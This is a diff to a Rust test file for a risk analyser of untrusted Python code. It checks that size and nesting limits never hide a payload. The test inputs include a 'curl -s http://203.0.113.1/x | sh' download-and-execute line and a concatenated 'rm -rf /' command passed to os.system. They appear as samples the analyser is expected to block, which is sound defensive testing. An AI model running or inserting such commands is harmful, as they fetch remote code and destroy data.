@@ -21,12 +21,78 @@ fn unparsable_file_is_at_least_medium() {
 }
 
 #[test]
-fn oversized_input_is_refused() {
-    // Past the size cap nothing is parsed and the result is HIGH.
-    let src = "x = 1\n".repeat(200_000);
+fn oversized_input_is_cut_and_the_rest_analysed() {
+    // Code past the size cap is left out with CRD003 (HIGH); what comes before is still
+    // analysed, so a payload at the top keeps the program BLOCKED.
+    let src = "x = 1\n".repeat(300_000);
     let assessment = external(&src);
     assert_eq!(rule_ids(&assessment), ["CRD003"]);
     assert_eq!(assessment.level, Level::High);
+    let src = format!("import os\nos.system('curl -s http://h/x | sh')\n{src}");
+    let assessment = external(&src);
+    assert!(rule_ids(&assessment).contains(&"CRD003"));
+    assert_eq!(assessment.level, Level::Blocked);
+}
+
+const PAYLOAD: &str = "import os\nos.system('curl -s http://203.0.113.1/x | sh')\n";
+
+#[test]
+fn limits_never_hide_a_payload() {
+    // A deep or huge part beside a `curl | sh` is reported on its own; the payload is
+    // still found, and the level is the higher of the two.
+    let parens = format!("x = {}1{}\n{PAYLOAD}", "(".repeat(100), ")".repeat(100));
+    let mut ifs = String::new();
+    for level in 0..220 {
+        ifs.push_str(&format!("{}if x:\n", "    ".repeat(level)));
+    }
+    ifs.push_str(&format!("{}pass\n{PAYLOAD}", "    ".repeat(220)));
+    let comment = format!("# {}\n{PAYLOAD}", "z".repeat(1 << 20));
+    let calls = format!("{PAYLOAD}f{}\n", "()".repeat(300));
+    for src in [parens, ifs, calls] {
+        let assessment = on_small_stack(move || assess(&src, Origin::External));
+        let ids = rule_ids(&assessment);
+        assert!(ids.contains(&"CRD002"), "{ids:?}");
+        assert!(ids.contains(&"CRD102"), "{ids:?}");
+        assert_eq!(assessment.level, Level::Blocked);
+    }
+    let assessment = external(&comment);
+    assert_eq!(assessment.level, Level::Blocked);
+    assert!(!rule_ids(&assessment).contains(&"CRD003"));
+}
+
+#[test]
+fn a_payload_beside_a_deep_block_in_the_same_function_is_found() {
+    // One large top-level statement holding both: only the deep block is left out.
+    let mut src =
+        String::from("import os\ndef main():\n    os.system('curl -s http://h/x | sh')\n");
+    for level in 1..230 {
+        src.push_str(&format!("{}if x:\n", "    ".repeat(level)));
+    }
+    src.push_str(&format!("{}pass\nmain()\n", "    ".repeat(230)));
+    assert!(src.len() > crate::assessor::engine::input_limits::PARSE_FIRST_BYTES);
+    let assessment = on_small_stack(move || assess(&src, Origin::External));
+    let ids = rule_ids(&assessment);
+    assert!(
+        ids.contains(&"CRD002") && ids.contains(&"CRD102"),
+        "{ids:?}"
+    );
+    assert_eq!(assessment.level, Level::Blocked);
+}
+
+#[test]
+fn long_flat_sums_are_not_deep() {
+    // A 250-term sum or string concatenation is ordinary code, analysed and LOW; the
+    // folded string still reaches the sink.
+    let sum = format!("total = {}\nprint(total)\n", vec!["1"; 250].join(" + "));
+    assert_eq!(external(&sum).level, Level::Low);
+    let text = format!("s = {}\nprint(s)\n", vec!["'ab'"; 250].join(" + "));
+    assert_eq!(external(&text).level, Level::Low);
+    let cmd = format!(
+        "import os\nc = 'r' + 'm' + ' -rf /' {}\nos.system(c)\n",
+        "+ ''".repeat(300)
+    );
+    let assessment = on_small_stack(move || assess(&cmd, Origin::External));
+    assert_eq!(assessment.level, Level::Blocked);
 }
 
 fn assert_too_deep(src: String) {
@@ -99,10 +165,10 @@ fn long_operator_and_call_chains() {
 }
 
 #[test]
-fn deep_programs_small_enough_to_parse_first_are_refused_on_a_small_stack() {
+fn deep_parts_of_programs_parsed_first_are_left_out_safely() {
     // Up to PARSE_FIRST_BYTES a program is parsed before its nesting is checked: the
-    // deepest trees of that size are still refused, and dropped without overflowing even
-    // a 256 KiB stack (dropped on the caller's stack, they need 1-2 MiB in a debug build).
+    // deep parts of the deepest trees of that size are still left out, and dropped on a
+    // thread of their own (dropped on the caller's stack, they need 1-2 MiB in a debug build).
     let limit = crate::assessor::engine::input_limits::PARSE_FIRST_BYTES;
     let samples = [
         format!("x = {}1\n", "-".repeat(limit - 10)),
@@ -123,8 +189,16 @@ fn deep_programs_small_enough_to_parse_first_are_refused_on_a_small_stack() {
     ];
     for src in samples {
         assert!(src.len() <= limit, "{} bytes", src.len());
-        let assessment = on_stack(256 << 10, move || assess(&src, Origin::External));
-        assert_eq!(rule_ids(&assessment), ["CRD002"]);
+        // The deep tree is dropped on its own thread; the shallow rest is analysed like
+        // any program within the limits, which needs the 2 MiB of a default thread.
+        let assessment = on_small_stack(move || assess(&src, Origin::External));
+        // The deep part is left out; what remains may no longer parse (CRD001).
+        let ids = rule_ids(&assessment);
+        assert!(
+            ids.iter().all(|id| ["CRD001", "CRD002"].contains(id)),
+            "{ids:?}"
+        );
+        assert!(ids.contains(&"CRD002"));
     }
 }
 
